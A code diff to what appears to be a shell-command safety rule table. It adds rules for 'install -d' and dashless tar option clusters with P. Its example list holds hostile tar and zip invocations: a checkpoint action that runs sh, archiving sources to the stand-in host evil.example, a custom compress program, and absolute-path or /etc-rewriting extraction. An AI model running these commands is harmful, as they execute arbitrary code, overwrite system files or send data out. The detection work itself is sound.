@@ -347,6 +347,12 @@ export const knowledge: Knowledge[] = [
         notArg: '^/dev/',
       },
       {
+        program: ['install'],
+        flags: [['-d', '--directory']],
+        minWords: 1,
+        within: [...OURS, 'project-root'],
+      },
+      {
         program: ['cp'],
         verbs: '^\\S*\\.env\\.(example|sample|template|dist|test|defaults?) \\S+$',
         within: [...OURS, 'secret'],
@@ -455,6 +461,8 @@ export const knowledge: Knowledge[] = [
         within: [...OURS, 'project-root', 'sink'],
         // `host:file` lies on another host
         notArg: '^[^/]+:',
+        // old clusters of options without a dash: P keeps absolute names
+        notVerbs: '^[cxtruzjJvkpfa]*P[cxtruzjJvkpfa]*( |$)',
       },
     ],
     examples: {
@@ -470,6 +478,7 @@ export const knowledge: Knowledge[] = [
         'tar -xf x.tar -C /',
         'tar xf x --checkpoint-action=exec=sh',
         'tar cf evil.example:x.tar src',
+        'tar xPf assets/vendor.tar',
         "tar Pxf x.tar --xform 's@.*@/etc/x@'",
         'tar -cf x.tar y --use-compress-program=./evil',
         'zip x.zip y -T -TT ./sh',
